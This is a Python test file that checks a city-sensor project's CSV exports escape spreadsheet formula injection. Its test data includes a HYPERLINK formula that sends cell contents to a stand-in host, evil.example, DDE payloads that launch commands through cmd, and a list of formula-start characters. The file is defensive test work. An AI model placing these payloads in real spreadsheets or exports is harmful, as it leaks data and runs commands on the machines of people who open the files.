"""CSV formula injection: what a device or a registry sent is never a live formula in any CSV we
write (the `streetsense export` command, the feeds' CSV downloads, the dashboard's exports)."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from collections.abc import Callable, Iterable
from datetime import UTC, datetime, timedelta
from typing import Any

import pandas as pd
import psycopg

from store.registry import store_registry
from store.writes import Rejection, write_rejections
from streetsense.config import Settings
from streetsense.csvcells import text_cell
from streetsense.registry import parse_registry
from tests.feeds.conftest import CITY, Server, feeds_settings

# What the attacker of issue 14 sent, and the other ways a cell becomes a formula.
HOSTILE = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "harmless\r=1+1",  # a line break inside a cell must not start a row of its own
    "harmless\n@SUM(1)",
)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def _formulas(rows: Iterable[Iterable[str]]) -> list[str]:
    """Return the cells a spreadsheet would run (a plain negative number is just a number)."""
    return [
        cell
        for row in rows
        for cell in row
        if cell.startswith(FORMULA_STARTS) and not _is_number(cell)
    ]


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return cell.strip() == cell


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _store_hostile_rejections(conn: psycopg.Connection) -> datetime:
    at = datetime.now(UTC) - timedelta(minutes=5)
    # A topic is whatever a client published to: the payload doubles as one.
    rejections = [
        Rejection(at, payload, "bad_topic", "not a streetsense topic", payload.encode())
        for payload in HOSTILE
    ]
    with conn.transaction():
        write_rejections(conn, rejections, 4096)
    return at


def test_export_command_writes_hostile_payloads_as_text(
    database_url: str, db: psycopg.Connection
) -> None:
    at = _store_hostile_rejections(db)
    env = {k: v for k, v in os.environ.items() if not k.startswith("STREETSENSE_")}
    env["STREETSENSE_DATABASE_URL"] = database_url
    done = subprocess.run(
        [sys.executable, "-m", "streetsense.cli", "export", "rejected",
         "--from", (at - timedelta(minutes=1)).isoformat(), "--to", datetime.now(UTC).isoformat()],
        env=env, capture_output=True, check=True, timeout=120,
    )  # fmt: skip
    rows = _rows(done.stdout.decode())
    payloads = [row[rows[0].index("payload")] for row in rows[1:]]
    # Kept whole; a mark added to those that would start a formula.
    assert sorted(payloads) == sorted(text_cell(p) for p in HOSTILE)
    assert _formulas(rows) == []


def test_feeds_csv_downloads_write_hostile_names_as_text(
    db: psycopg.Connection, settings: Settings, start_server: Callable[..., Server]
) -> None:
    city: dict[str, list[dict[str, Any]]] = {key: list(value) for key, value in CITY.items()}
    # The registry refuses control characters in names, so those forms cannot arrive here.
    names = [name for name in HOSTILE if name.isprintable()]
    city["lot"] = [{**lot, "name": name} for lot, name in zip(CITY["lot"], names, strict=False)]
    city["segment"] = [
        {**segment, "name": name} for segment, name in zip(CITY["segment"], names[3:], strict=False)
    ]
    store_registry(db, parse_registry(city), "tests")
    db.commit()
    server = start_server(feeds_settings(settings))
    with server.client() as client:
        lots = client.get("/v1/parking/lots", params={"format": "csv"}).text
        segments = client.get("/v1/traffic/segments", params={"format": "csv"}).text
    for text in (lots, segments):
        rows = _rows(text)
        assert len(rows) > 1
        assert _formulas(rows) == []
    assert {row[1] for row in _rows(lots)[1:]} == {"'" + name for name in names[:3]}


def test_dashboard_exports_write_hostile_cells_as_text(
    database_url: str, db: psycopg.Connection
) -> None:
    from dashboard import data, exports  # Streamlit: only where needed

    at = _store_hostile_rejections(db)
    examples = data.rejection_examples(
        database_url, "bad_topic", at - timedelta(minutes=1), datetime.now(UTC), 100
    )
    assert len(examples) == len(HOSTILE)
    # The table's own CSV download (Streamlit's toolbar) writes the cells as shown.
    shown = [[str(cell) for cell in row] for row in examples.itertuples(index=False)]
    assert _formulas(shown) == []
    frame = pd.DataFrame({"name": list(HOSTILE), "ok": [True] * len(HOSTILE), "value": -1.5})
    rows = _rows(exports.to_csv(frame).decode())
    assert _formulas(rows) == []
    assert rows[1] == ["'" + HOSTILE[0], "true", "-1.5"]  # numbers stay numbers
